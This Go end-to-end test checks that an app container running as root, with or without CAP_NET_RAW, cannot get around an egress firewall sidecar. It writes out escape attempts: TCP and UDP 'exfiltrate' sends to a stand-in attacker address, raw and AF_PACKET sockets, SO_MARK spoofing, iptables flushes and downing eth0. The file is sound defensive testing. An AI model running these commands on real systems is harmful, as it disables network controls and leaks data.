//go:build e2e

package e2e

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// dockerCaps is Docker's default capability set for a container.
const dockerCaps = "chown,dac_override,fowner,fsetid,kill,setgid,setuid,setpcap,net_bind_service,net_raw,sys_chroot,mknod,audit_write,setfcap"

// capsBounding turns a comma-separated list into setpriv's --bounding-set syntax.
func capsBounding(caps string) string {
	return "--bounding-set=-all,+" + strings.ReplaceAll(caps, ",", ",+")
}

// identity is one way the app may run in its own container.
type identity struct {
	name   string
	prefix []string // setpriv arguments, before the command
	netRaw bool
}

func identities() []identity {
	noRaw := strings.Replace(dockerCaps, "net_raw,", "", 1)
	return []identity{
		{
			name:   "root with Docker's default capabilities minus NET_RAW",
			prefix: []string{"setpriv", capsBounding(noRaw), "--inh-caps=-all", "--"},
		},
		{
			name: "root minus NET_RAW, switched to uid 1337",
			prefix: []string{"setpriv", capsBounding(noRaw), "--inh-caps=-all",
				"--reuid=1337", "--regid=1337", "--clear-groups", "--"},
		},
		{
			name:   "root with Docker's default capabilities (NET_RAW kept)",
			prefix: []string{"setpriv", capsBounding(dockerCaps), "--inh-caps=-all", "--"},
			netRaw: true,
		},
		{
			name: "root with default capabilities, switched to uid 1337 keeping NET_RAW",
			prefix: []string{"setpriv", capsBounding(dockerCaps), "--reuid=1337", "--regid=1337", "--clear-groups",
				"--inh-caps=-all,+net_raw", "--ambient-caps=+net_raw", "--"},
			netRaw: true,
		},
	}
}

// agentAs runs one agent subcommand under id (the app runs as root, setpriv
// takes capabilities away and changes uid).
func agentAs(t *testing.T, root *App, id identity, args ...string) AgentResult {
	t.Helper()
	argv := append(append(append([]string{}, id.prefix...), agentBin), args...)
	run := root.Run(15*time.Second, argv...)
	var r AgentResult
	if err := json.Unmarshal([]byte(strings.TrimSpace(run.Stdout)), &r); err != nil {
		t.Fatalf("agent %v as %s: no result: %v\n%s", args, id.name, err, run)
	}
	r.Run = run
	return r
}

// TestIdentityRootCannotFake runs the app as root in the pod — the way an
// app container may run, with Docker's default capabilities and without
// NET_ADMIN or SYS_ADMIN — and, as that root and after switching to uid 1337
// (panopticon's uid), tries every way out: TCP, UDP, ICMP, IPv6, raw
// sockets, AF_PACKET frames, wearing panopticon's socket mark, and flushing
// the firewall. Without CAP_NET_RAW, everything fails and the wire stays
// silent. With CAP_NET_RAW (Docker's default!) the kernel (≥ 5.17) lets a
// socket take any SO_MARK and AF_PACKET frames skip netfilter: the test
// records that as the documented limitation — the app container must drop
// NET_RAW (docker-compose.yml drops ALL).
func TestIdentityRootCannotFake(t *testing.T) {
	t.Parallel()
	tb := NewTestbed(t)
	tb.StartPanopticon(t, "allowed.test\n")
	wire, err := tb.StartWire()
	if err != nil {
		t.Fatal(err)
	}
	root := tb.AppAs(t, 0, 0)
	rules := firewallRules(t, tb)
	mark := "0x1337"

	for _, id := range identities() {
		t.Run(id.name, func(t *testing.T) {
			if r := agentAs(t, root, id, "caps"); !r.OK || strings.Contains(r.Got, "CapEff=0000003fffffffff") || strings.Contains(r.Got, "CapEff=000001ffffffffff") {
				t.Fatalf("identity not as intended: %s", r)
			} else {
				t.Logf("%s", r.Got)
			}
			m := tb.Mark()
			for _, args := range [][]string{
				{"tcp", AttackerIP + ":9999"},
				{"tcp", "[" + AttackerIPv6 + "]:9999"},
				{"udp", AttackerIP + ":9999", "exfiltrate"},
				{"udp", "[" + AttackerIPv6 + "]:443", "exfiltrate"},
				{"ping", AttackerIP},
				{"ping", AttackerIPv6},
			} {
				if r := agentAs(t, root, id, args...); strings.Contains(r.Got, "ATTACKER") || args[0] != "tcp" && r.OK {
					t.Errorf("%v got out: %s", args, r)
				}
			}
			for _, args := range [][]string{
				{"rawip", AttackerIP, "9999"},
				{"rawip", AttackerIPv6, "9999"},
				{"rawicmp", AttackerIP},
				{"rawicmp", AttackerIPv6},
			} {
				r := agentAs(t, root, id, args...)
				if !id.netRaw && !strings.Contains(r.Err, "operation not permitted") {
					t.Errorf("%v without NET_RAW: %s; want EPERM", args, r)
				}
				if id.netRaw && strings.Contains(r.Got, "echo reply") {
					t.Errorf("%v got an answer from outside: %s", args, r)
				}
			}
			for _, cmd := range [][]string{
				{"iptables", "-F"},
				{"iptables", "-t", "nat", "-F", "PANOPTICON_NAT"},
				{"iptables", "-D", "OUTPUT", "1"},
				{"ip6tables", "-F"},
				{"ip", "link", "set", "eth0", "down"},
			} {
				r := root.Run(10*time.Second, append(append([]string{}, id.prefix...), cmd...)...)
				if r.Exit == 0 {
					t.Errorf("%v succeeded: %s", cmd, r)
				}
			}
			if !id.netRaw {
				if r := agentAs(t, root, id, "setmark", AttackerIP+":9999", mark); !strings.Contains(r.Err, "operation not permitted") {
					t.Errorf("SO_MARK %s without NET_ADMIN/NET_RAW: %s; want EPERM", mark, r)
				}
				if r := agentAs(t, root, id, "packet", "eth0", AttackerIP, "9999"); !strings.Contains(r.Err, "operation not permitted") {
					t.Errorf("AF_PACKET without NET_RAW: %s; want EPERM", r)
				}
			}
			AssertUnseen(t, m, tb.Attacker, tb.DirectDNS, wire)

			if id.netRaw {
				// The documented limitation, measured (not asserted).
				m := tb.Mark()
				sm := agentAs(t, root, id, "setmark", AttackerIP+":9999", mark)
				pk := agentAs(t, root, id, "packet", "eth0", AttackerIP, "9999")
				time.Sleep(200 * time.Millisecond)
				t.Logf("KNOWN LIMITATION (app holds CAP_NET_RAW): SO_MARK %s: %s", mark, sm)
				t.Logf("KNOWN LIMITATION (app holds CAP_NET_RAW): AF_PACKET frame: %s", pk)
				t.Logf("KNOWN LIMITATION: what got out: attacker %q, wire %q", tb.Attacker.Since(m[tb.Attacker.rec()]), wire.Since(m[wire.rec()]))
			}
		})
	}
	if got := firewallRules(t, tb); got != rules {
		t.Errorf("the firewall changed under the attacks:\n--- before\n%s\n--- after\n%s", rules, got)
	}
}
